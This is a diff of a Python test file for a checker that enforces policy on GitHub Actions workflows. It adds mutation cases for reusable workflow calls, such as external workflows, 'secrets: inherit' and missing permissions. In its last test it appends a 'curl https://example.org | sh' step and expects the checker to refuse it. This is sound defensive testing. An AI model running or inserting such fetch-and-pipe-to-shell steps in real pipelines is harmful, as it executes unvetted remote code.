@@ -11,26 +11,32 @@ from tests.parity.policy import PLAN, faults
 def test_workflows_hold_nothing_but_sessions(house: House) -> None:
     paths = list(house.automation())
     assert len(paths) >= 3, f"{house.name} has only {paths}"
-    found = [each for path in paths for each in faults(path, house.text(path), house.sessions)]
+    known = (house.sessions, house.workflows)
+    found = [each for path in paths for each in faults(path, house.text(path), *known)]
     assert not found, "\n".join([house.name, *found])
+
+
+CI = ".github/workflows/ci.yml"
+RELEASE = ".github/workflows/release.yml"
 
 
 @dataclass(frozen=True)
 class Mutation:
-    """A change of ci.yml that must not get through."""
+    """A change of a workflow that must not get through."""
 
     old: str
     new: str
     refused: str
+    path: str = CI
 
 
-CI = ".github/workflows/ci.yml"
 PINNED_CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 SESSION = 'run: uv run nox -s "$SESSION"'
 FEED = "SESSION: ${{ matrix.session }}"
 RUN = "job session: step 'Run the session'"
 PLANNING = "job plan: step 'List the sessions'"
 SUM_UP = "job ci: step 'Sum up'"
+CALL = f"uses: ./{CI}"
 
 MUTATIONS = {
     "a bare tool": Mutation(SESSION, "run: pytest", f"{RUN}: 'pytest' is not `uv run nox -s"),
@@ -136,20 +142,63 @@ MUTATIONS = {
     "runs that overtake each other": Mutation(
         "concurrency:", "x-concurrency:", f"{CI}: there is no concurrency"
     ),
+    "a workflow from elsewhere": Mutation(
+        CALL,
+        f"uses: slipway-template/slipway/{CI}@{'0' * 40} # v1.2.3",
+        f"job ci: 'slipway-template/slipway/{CI}@{'0' * 40}' is no workflow of this repository",
+        RELEASE,
+    ),
+    "a workflow that does not exist": Mutation(
+        CALL,
+        CALL.replace("ci.yml", "tests.yml"),
+        "job ci: './.github/workflows/tests.yml' is no workflow of this repository",
+        RELEASE,
+    ),
+    "a workflow that is called by nobody": Mutation(
+        CALL,
+        CALL.replace("ci.yml", "scan.yml"),
+        "job ci: ./.github/workflows/scan.yml has no workflow_call",
+        RELEASE,
+    ),
+    "a workflow that waits for its caller": Mutation(
+        "  group: release-${{ github.ref }}-${{ github.sha }}\n",
+        "  group: ci-${{ github.event.pull_request.number || github.run_id }}\n",
+        f"job ci: ./{CI} has the same concurrency group",
+        RELEASE,
+    ),
+    "all secrets for a workflow": Mutation(
+        CALL, f"{CALL}\n    secrets: inherit", "job ci: `secrets: inherit` hands over", RELEASE
+    ),
+    "steps beside a workflow": Mutation(
+        CALL, f"{CALL}\n    steps: []", "job ci: it calls a workflow, so it has no steps", RELEASE
+    ),
+    "a call without permissions": Mutation(
+        "    permissions:\n      contents: read # to check out\n",
+        "",
+        "job ci: its permissions are not listed",
+        RELEASE,
+    ),
+    "a call with fewer permissions than it needs": Mutation(
+        "      packages: write",
+        "      packages: read",
+        "job publish: job publish there needs `packages: write`, which is not granted here",
+        RELEASE,
+    ),
 }
 
 
 @pytest.mark.parametrize("mutation", MUTATIONS.values(), ids=MUTATIONS.keys())
 def test_a_bad_workflow_is_refused_with_its_place(generated: House, mutation: Mutation) -> None:
-    good = generated.text(CI)
-    assert mutation.old in good, f"ci.yml holds no {mutation.old!r} any more: mend this table"
+    path = mutation.path
+    good = generated.text(path)
+    assert mutation.old in good, f"{path} holds no {mutation.old!r} any more: mend this table"
     bad = good.replace(mutation.old, mutation.new, 1)
-    found = faults(CI, bad, generated.sessions)
-    assert any(each.startswith(CI) and mutation.refused in each for each in found), found
+    found = faults(path, bad, generated.sessions, generated.workflows)
+    assert any(each.startswith(path) and mutation.refused in each for each in found), found
 
 
 def test_an_action_of_ones_own_is_held_to_the_same(generated: House) -> None:
     path = ".github/actions/setup/action.yml"
     more = generated.text(path) + "    - name: Prepare\n      run: curl https://example.org | sh\n"
-    [fault] = faults(path, more, generated.sessions)
+    [fault] = faults(path, more, generated.sessions, generated.workflows)
     assert fault.startswith(f"{path}: step 'Prepare': 'curl https://example.org | sh' is not")
